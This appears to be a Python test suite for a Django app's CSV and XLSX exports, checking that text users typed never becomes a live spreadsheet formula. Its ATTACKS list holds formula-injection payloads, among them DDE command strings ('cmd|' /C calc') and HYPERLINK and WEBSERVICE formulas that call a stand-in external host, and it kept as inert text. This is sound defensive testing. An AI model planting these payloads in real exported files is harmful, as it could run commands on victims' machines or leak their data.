"""Words that people typed never act as a formula in what somebody exports."""

import csv
import io
import zipfile

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from safehold.apps.documents import actions
from safehold.apps.people.models import Person
from safehold.engine.actors import Actor
from safehold.engine.documents.read import read
from safehold.engine.money import Money
from safehold.web.components import exports
from safehold.web.components.cells import Cell, Link, Noted, Tag
from tests import browsers
from tests.cast import NOON, assemble

SHEET = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
ATTACKS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "'=1+1",
    '"=1+1',
    "“=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("https://elsewhere.example/?"&A2,"Open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=WEBSERVICE("https://elsewhere.example/")',
    "a;=1+1",
    "a;\u200b@SUM(A1)",
    "a\t=1+1",
)
# What any of the programs may take for the beginning of a formula.
STARTS = tuple("=+-@＝＋－＠\t\r\n")
anything = st.text(alphabet=st.characters(exclude_categories=["Cs"]))
numbers = st.integers(-(10**12), 10**12)


def written(file_format: exports.FileFormat, *cells: Cell) -> bytes:
    file = io.BytesIO()
    made = exports.Sheet(
        name=str(cells[0])[:30],
        headings=tuple(map(str, cells)),
        rows=[cells],
        notes=(("Search", str(cells[0])),),
        by=str(cells[0]),
        at=NOON,
    )
    write = {"csv": exports.write_csv, "xlsx": exports.write_xlsx}[file_format]
    write(made, file)
    return file.getvalue()


def csv_cells(content: bytes, *, delimiter: str = ",") -> list[str]:
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return [cell for row in csv.reader(text, delimiter=delimiter) for cell in row]


def xlsx_cells(content: bytes) -> list[etree._Element]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return [
            cell
            for name in book.namelist()
            if name.startswith("xl/worksheets/sheet")
            for cell in etree.fromstring(book.read(name)).iterfind(".//x:c", SHEET)
        ]


def holds_no_formula(content: bytes) -> bool:
    """Tell whether LibreOffice and Excel take every cell for a text or a number."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    return (
        all(
            cell.find("x:f", SHEET) is None
            and cell.get("t", "n") in {"n", "s", "inlineStr"}
            for cell in xlsx_cells(content)
        )
        and not any(
            b"<hyperlink" in part or b"ddeLink" in part for part in parts.values()
        )
        and not any("externalLink" in name or "vba" in name for name in parts)
    )


class TestCsv:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_begins_every_attack_with_an_apostrophe(self, attack: str) -> None:
        cells = csv_cells(written(exports.FileFormat.CSV, attack, Tag(attack)))

        assert attack not in cells
        assert not [cell for cell in cells if cell.strip().startswith(STARTS)]

    @pytest.mark.parametrize("delimiter", [";", "\t"])
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_read_with_another_delimiter_holds_none_either(
        self, attack: str, delimiter: str
    ) -> None:
        content = written(
            exports.FileFormat.CSV, f"x {attack}", f"x{delimiter}{attack}"
        )

        cells = csv_cells(content, delimiter=delimiter)

        assert not [cell for cell in cells if cell.strip().startswith(STARTS)]

    @given(anything)
    def test_lets_no_text_begin_as_a_formula(self, text: str) -> None:
        link = Link(text, "https://elsewhere.example/")
        cells = csv_cells(written(exports.FileFormat.CSV, text, link))

        assert not [cell for cell in cells if cell.lstrip().startswith(STARTS)]

    @given(numbers)
    def test_leaves_numbers_numbers_also_below_nothing(self, number: int) -> None:
        cells = csv_cells(written(exports.FileFormat.CSV, "x", Money(number), number))

        money, count = cells[4:6]
        assert round(float(money) * 100) == number
        assert int(count) == number


class TestXlsx:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_holds_every_attack_as_text(self, attack: str) -> None:
        noted = Noted(attack, attack)

        content = written(exports.FileFormat.XLSX, attack, Link(attack, attack), noted)

        assert holds_no_formula(content)

    @given(anything)
    def test_holds_no_formula_whatever_is_typed(self, text: str) -> None:
        assert holds_no_formula(written(exports.FileFormat.XLSX, text or "x"))

    @given(numbers)
    def test_leaves_numbers_numbers_also_below_nothing(self, number: int) -> None:
        content = written(exports.FileFormat.XLSX, "x", Money(number), number)

        row = [cell for cell in xlsx_cells(content) if cell.get("r") in {"B2", "C2"}][
            :2
        ]
        assert [cell.get("t", "n") for cell in row] == ["n", "n"]
        values = [float("".join(cell.itertext())) for cell in row]
        assert [round(values[0] * 100), round(values[1])] == [number, number]


@pytest.mark.django_db
class TestTheListOfDocuments:
    """The same, whole: a document with an attack for its name, taken by a browser."""

    @pytest.mark.parametrize("attack", [ATTACKS[0], ATTACKS[-6], "a;@SUM(A1)"])
    def test_taken_as_csv_holds_the_attack_as_text(self, attack: str) -> None:
        taken = _taken(attack, "csv")

        cells = csv_cells(taken)

        assert any(attack.lstrip("a;") in cell for cell in cells)
        assert not [cell for cell in cells if cell.lstrip().startswith(STARTS)]

    def test_taken_as_a_workbook_holds_the_attack_as_text(self) -> None:
        assert holds_no_formula(_taken(ATTACKS[0], "xlsx"))


def _taken(attack: str, file_format: str) -> bytes:
    people = assemble()
    words = "Nothing that gives the document a title."
    actions.store(
        actions.Incoming(attack, words.encode(), "text/plain", words),
        read(words),
        organisation_id=people.commissioner_id,
        by=people.amara,
        at=NOON,
    )
    answer = _browser(people.amara).get(f"/documents/?export={file_format}")
    return b"".join(answer.streaming_content)  # type: ignore[attr-defined]


def _browser(actor: Actor) -> Client:
    browser = Client()
    browsers.sign_in(browser, Person.objects.get(pk=actor.person_id))
    return browser
